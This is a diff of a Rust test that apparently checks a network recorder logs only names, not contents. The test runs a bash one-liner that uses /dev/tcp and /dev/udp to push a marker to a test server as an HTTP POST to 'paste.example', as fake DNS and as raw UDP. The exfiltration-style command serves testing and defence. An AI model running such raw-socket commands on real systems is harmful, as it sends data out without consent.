@@ -171,10 +171,12 @@ fn nothing_but_names_comes_out() {
     let _servers = scene.serve_https();
     let telltale = scene.telltale().scope("all").record().start();
     // Path, field, password and body; the marker is put together so that no argument holds it.
+    // In one piece: bash writes line by line, and whoever answers the first ends the sampling.
     let send = format!(
         "m=zqx; m=${{m}}marker${{m}}; exec 3<>/dev/tcp/{SERVER_V4}/443; \
-         printf 'POST /%s HTTP/1.1\\r\\nHost: paste.example\\r\\nAuthorization: %s\\r\\n\\r\\n%s' \
-         $m $m $m >&3; exec 4<>/dev/udp/{SERVER_V4}/53; printf 'not dns at all %s' $m >&4; \
+         printf -v request \
+         'POST /%s HTTP/1.1\\r\\nHost: paste.example\\r\\nAuthorization: %s\\r\\n\\r\\n%s' \
+         $m $m $m; cat <<< \"$request\" >&3; exec 4<>/dev/udp/{SERVER_V4}/53; printf 'not dns at all %s' $m >&4; \
          exec 5<>/dev/udp/{SERVER_V4}/443; printf '%s' $m >&5; sleep 0.2"
     );
     scene.run(&claude(&scene), &["run", "bash", "-c", &send]);
